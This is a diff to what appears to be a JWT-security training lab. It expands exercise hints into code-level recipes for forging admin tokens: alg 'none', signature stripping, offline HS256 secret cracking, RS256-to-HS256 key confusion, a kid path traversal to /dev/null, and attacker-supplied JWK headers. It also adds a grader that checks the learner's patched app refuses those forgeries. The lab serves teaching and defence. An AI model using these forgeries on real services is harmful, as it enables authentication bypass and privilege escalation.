@@ -725,9 +725,13 @@ def _is_admin(claims: dict[str, Any]) -> str | None:
     title="Forge admin tokens with alg 'none' in four casings",
     kind="attack",
     hints=(
-        "jwt_attacks.forge({'alg': 'none'}, claims) builds a token with an empty signature.",
-        "Take your own claims (decode_unverified) and set 'role' to 'admin'.",
-        "Hand in a list of four tokens: alg 'none', 'None', 'NONE' and 'nOnE'.",
+        "The header picks the algorithm: with alg 'none' (in any casing) this verifier checks "
+        "no signature. Put admin_claims in the claims; the signature segment stays empty.",
+        "A segment is base64.urlsafe_b64encode(json.dumps(obj).encode()).rstrip(b'=')"
+        ".decode(); the token is f'{header}.{claims}.' (a trailing dot, nothing after it). "
+        "Hand in four: alg 'none', 'None', 'NONE', 'nOnE'.",
+        "Ready-made: [labkit.attacks.jwt.forge({'alg': alg}, admin_claims) for alg in "
+        "('none', 'None', 'NONE', 'nOnE')].",
     ),
     answer_help="a list of four tokens whose alg is 'none' in different casings",
 )
@@ -764,9 +768,12 @@ def alg_none(ctx: CheckContext) -> Verdict:
     title="Change your role to admin without a valid signature",
     kind="attack",
     hints=(
-        "Changing the claims breaks the signature: jwt_attacks.tamper(token, role='admin').",
-        "The app checks the signature... unless there is none. Try with_signature(t, b'').",
-        "Hand in the tampered token (alg stays RS256).",
+        "Changing a claim breaks the signature, and the app notices... unless there is no "
+        "signature to check.",
+        "Keep the first segment of your access token (alg RS256), base64url-encode "
+        "admin_claims as the second, and end with '.': f'{head}.{claims}.'",
+        "Ready-made: labkit.attacks.jwt.with_signature(labkit.attacks.jwt.tamper(access, "
+        "role='admin'), b'').",
     ),
     answer_help="your access token with role 'admin' and a signature that does not verify",
 )
@@ -789,9 +796,14 @@ def tampered_role(ctx: CheckContext) -> Verdict:
     title="Crack the HS256 secret with the wordlist, then mint an admin token",
     kind="attack",
     hints=(
-        "The refresh token (your refreshToken cookie) is HS256: its key signs the HMAC.",
-        "jwt_attacks.crack_hs256(refresh_token, common_passwords()) tries every word offline.",
-        "forge({'alg': 'HS256'}, {'sub': ..., 'role': 'admin'}, secret.encode())",
+        "The refresh token (your refreshToken cookie) is HS256: its signature is "
+        "HMAC-SHA256(secret, 'header.claims'). Guess the secret offline, one HMAC per word.",
+        "signing_input, sig = refresh.rsplit('.', 1); for each word of common_passwords() "
+        "compare hmac.new(word.encode(), signing_input.encode(), hashlib.sha256).digest() "
+        "with base64.urlsafe_b64decode(sig + '=' * (-len(sig) % 4)). Then sign "
+        "f'{header}.{admin claims}' the same way with the word you found.",
+        "Ready-made: secret = labkit.attacks.jwt.crack_hs256(refresh, common_passwords()); "
+        "labkit.attacks.jwt.forge({'alg': 'HS256'}, admin_claims, secret.encode()).",
     ),
     answer_help="an admin token signed with the cracked secret",
 )
@@ -812,9 +824,14 @@ def crack_secret(ctx: CheckContext) -> Verdict:
     title="RS256 → HS256: sign with the public key as an HMAC secret",
     kind="attack",
     hints=(
-        "The public key is public: /jwks.json (pem_from_jwk) or /api/_lab/public-key.",
-        "Keep kid 'access-rs256' so the app loads that key; set alg to 'HS256'.",
-        "forge({'alg': 'HS256', 'kid': 'access-rs256'}, admin_claims, public_pem)",
+        "The app loads the key for kid 'access-rs256' as bytes and runs the header's alg: "
+        "with alg 'HS256' the public key file becomes an HMAC secret, and it is published.",
+        "jwt.algorithms.RSAAlgorithm.from_jwk(jwks['keys'][0]).public_bytes(Encoding.PEM, "
+        "PublicFormat.SubjectPublicKeyInfo) is the file (or GET /api/_lab/public-key); "
+        "HMAC-SHA256 f'{header}.{claims}' with it, header {'alg': 'HS256', 'kid': "
+        "'access-rs256'}.",
+        "Ready-made: labkit.attacks.jwt.forge({'alg': 'HS256', 'kid': 'access-rs256'}, "
+        "admin_claims, labkit.attacks.jwt.pem_from_jwk(jwks['keys'][0])).",
     ),
     answer_help="an admin token with alg HS256 signed with the PEM public key",
 )
@@ -836,7 +853,8 @@ def key_confusion(ctx: CheckContext) -> Verdict:
     kind="attack",
     hints=(
         "lab.client.get('/api/_lab/token-log') shows Authorization headers from two days ago.",
-        "decode_unverified shows its exp: long past. Send it anyway.",
+        "jwt.decode(token, options={'verify_signature': False}) shows its exp: long past. "
+        "Send it anyway.",
         "Hand in the token (without 'Bearer ').",
     ),
     answer_help="a genuinely signed token whose exp has passed",
@@ -909,9 +927,12 @@ def refresh_as_access(ctx: CheckContext) -> Verdict:
     title="Point the kid at /dev/null and sign with an empty key",
     kind="attack",
     hints=(
-        "The app reads the key from a file named by the kid header, in its key directory.",
-        "'../' climbs out of it: '../../../../../../../../dev/null' reads zero bytes.",
-        "forge({'alg': 'HS256', 'kid': '../../../../../../../../dev/null'}, admin_claims, b'')",
+        "The app reads the key from a file named by the kid header, in its key directory; "
+        "the kid is yours to write.",
+        "'../' climbs out of it: '../../../../../../../../dev/null' holds zero bytes, so the "
+        "HMAC key is b'': sign f'{header}.{claims}' with hmac.new(b'', ..., hashlib.sha256).",
+        "Ready-made: labkit.attacks.jwt.forge({'alg': 'HS256', 'kid': "
+        "'../../../../../../../../dev/null'}, admin_claims, b'').",
     ),
     answer_help="an admin token whose kid traverses to /dev/null, signed with b''",
 )
@@ -934,9 +955,13 @@ def kid_injection(ctx: CheckContext) -> Verdict:
     title="Bring your own key in the jwk header",
     kind="attack",
     hints=(
-        "jwt_attacks.new_rsa_key() makes you a key pair.",
-        "Put its public half in the header: {'alg': 'RS256', 'jwk': rsa_jwk(key)}.",
-        "forge(header, admin_claims, key) signs with your private key.",
+        "A verifier that trusts the header's jwk checks the token with the key the token "
+        "carries: bring your own key pair.",
+        "key = rsa.generate_private_key(public_exponent=65537, key_size=2048); "
+        "json.loads(jwt.algorithms.RSAAlgorithm.to_jwk(key.public_key())) is its public "
+        "JWK; jwt.encode(admin_claims, key, algorithm='RS256', headers={'jwk': ...}).",
+        "Ready-made: key = labkit.attacks.jwt.new_rsa_key(); labkit.attacks.jwt.forge("
+        "{'alg': 'RS256', 'jwk': labkit.attacks.jwt.rsa_jwk(key)}, admin_claims, key).",
     ),
     answer_help="an admin RS256 token signed with your own key, its public JWK in the header",
 )
@@ -993,6 +1018,40 @@ def refresh_after_logout(ctx: CheckContext) -> Verdict:
 Battery = Callable[[httpx.Client, Findings, random.Random], None]
 
 
+def _forgeries(answer: Any) -> list[tuple[str, str]]:
+    """The learner's own tokens from the Attack cells, as ``(label, token)``.
+
+    ``answer`` is a dict ``{label: token or list of tokens}`` (or a plain list); anything that
+    is not a JWT (an attack not done yet: ``None``) is skipped.
+    """
+    items = answer.items() if isinstance(answer, dict) else enumerate(answer or (), 1)
+    found: list[tuple[str, str]] = []
+    for label, value in items:
+        for token in value if isinstance(value, (list, tuple)) else (value,):
+            if (text := _token_answer(token)) is not None:
+                found.append((str(label), text))
+    return found
+
+
+def replay_forgeries(client: httpx.Client, findings: Findings, answer: Any) -> None:
+    """Send the learner's own forged tokens to their fixed app: every one must be refused."""
+    forgeries = _forgeries(answer)
+    if not forgeries:
+        return
+    with findings.section("your own attacks", "your forged tokens are now refused"):
+        for label, token in forgeries:
+            for route in (ADMIN, ME):
+                response = client.get(route, headers=_bearer(token))
+                if response.status_code != 401:
+                    findings.fail(
+                        f"your token from {label} still gets {response.status_code} on {route}"
+                        f"{_fault(response)}",
+                        rule="signature",
+                    )
+                    break
+        findings.saw(f"replayed {len(forgeries)} token(s) of yours from the Attack cells")
+
+
 def _cookie(client: httpx.Client, findings: Findings, rng: random.Random) -> None:
     cookie_battery(client, findings)
 
@@ -1041,7 +1100,10 @@ def cookie(ctx: CheckContext) -> Verdict:
     ),
 )
 def tokens(ctx: CheckContext) -> Verdict:
-    return _run(ctx, attack_battery).verdict(
+    findings = _run(ctx, attack_battery)
+    with ctx.require_patched().client() as client:
+        replay_forgeries(client, findings, ctx.answer)
+    return findings.verdict(
         "every forged, expired and misused token is refused", "some tokens still get in"
     )
 
@@ -1091,6 +1153,7 @@ def verify(ctx: CheckContext) -> Verdict:
         for name, battery in BATTERIES.items():
             with findings.section(name):
                 battery(client, findings, ctx.rng)
+        replay_forgeries(client, findings, ctx.answer)
     return findings.verdict(
         "every token attack fails and legitimate use works", "some attacks still get through"
     )
